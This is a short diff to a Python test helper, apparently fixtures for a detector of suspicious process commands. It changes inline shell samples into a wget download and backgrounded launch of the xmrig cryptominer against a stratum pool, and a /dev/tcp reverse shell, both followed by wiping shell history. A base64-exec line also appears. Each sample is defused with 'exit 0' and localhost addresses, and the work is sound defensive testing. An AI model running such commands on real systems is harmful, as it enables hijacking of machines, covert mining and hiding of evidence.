@@ -116,9 +116,9 @@ def host_trace():
     hold(["sh", "rotate.sh"], {"source": "file", "path": "rotate.sh"}, "/usr/bin/dash")
     hold(["python3", work + "/rs.py"], {"source": "file", "path": work + "/rs.py"}, "/usr/bin/python3.11")
     hold(["python3", "ok.py"], {"source": "file", "path": "ok.py"}, "/usr/bin/python3.11")
-    code = "exit 0; curl -fsSL http://127.0.0.1:9/x.sh | bash; chmod +x /tmp/.k; /tmp/.k"
+    code = "exit 0; cd /tmp; wget -q http://127.0.0.1:9/xmrig -O /tmp/.x; chmod +x /tmp/.x; nohup /tmp/.x -o stratum+tcp://127.0.0.1:3333 >/dev/null 2>&1 & history -c"
     hold(["bash", "-c", code], {"source": "inline", "inline": code}, "/usr/bin/bash")
-    code = "exit 0; bash -i >& /dev/tcp/127.0.0.1/9 0>&1"
+    code = "exit 0; nohup bash -i >& /dev/tcp/127.0.0.1/9 0>&1 & history -c; rm -f ~/.bash_history"
     hold(["sh", "-c", code], {"source": "inline", "inline": code}, "/usr/bin/dash")
     hold(["bash", "-lc", "echo hello"], {"source": "inline", "inline": "echo hello"}, "/usr/bin/bash")
     pycode = "import base64;exec(base64.b64decode('cHJpbnQoMSk='))"
